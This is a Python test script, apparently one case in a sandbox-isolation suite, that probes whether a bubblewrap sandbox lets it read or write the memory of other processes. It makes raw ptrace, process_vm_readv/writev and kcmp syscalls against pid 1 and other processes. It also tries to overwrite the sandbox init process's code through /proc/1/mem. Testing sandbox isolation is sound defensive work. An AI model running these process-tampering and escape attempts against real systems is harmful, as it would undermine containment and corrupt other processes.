"""H2: read and write the memory of other processes, and of the first one, which is not ours."""

import ctypes
import os

from attempt import attempt, done

libc = ctypes.CDLL(None, use_errno=True)


def call(*arguments):
    got = libc.syscall(*arguments)
    if got < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return True


child = os.fork()
if child == 0:
    import time

    time.sleep(5)
    os._exit(0)
buffer = ctypes.create_string_buffer(64)
vector = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), 64)
for pid in (1, child, os.getppid(), 2, 100):
    attempt(f"attach to {pid}", lambda pid=pid: call(101, 16, pid, None, None))
    attempt(f"seize {pid}", lambda pid=pid: call(101, 0x4206, pid, None, None))
    attempt(f"read the memory of {pid}", lambda pid=pid: call(310, pid, vector, 1, vector, 1, 0))
    attempt(f"write the memory of {pid}", lambda pid=pid: call(311, pid, vector, 1, vector, 1, 0))
    attempt(f"compare with {pid}", lambda pid=pid: call(312, os.getpid(), pid, 0, 0, 0))
attempt("let anybody trace us", lambda: call(101, 0, 0, None, None))


def first_exits_well():
    """Write into the first process that it ends well: it has no more rights than we have."""
    with open("/proc/1/maps") as file:
        code = next(line for line in file if "r-xp" in line and "bwrap" in line)
    with open("/proc/1/mem", "r+b", buffering=0) as memory:
        memory.seek(int(code.split("-")[0], 16))
        memory.write(b"\xcc" * 4096)


try:
    first_exits_well()
except (OSError, StopIteration) as error:
    print("stopped: overwrite the first process", error)
os.kill(child, 9)
done()
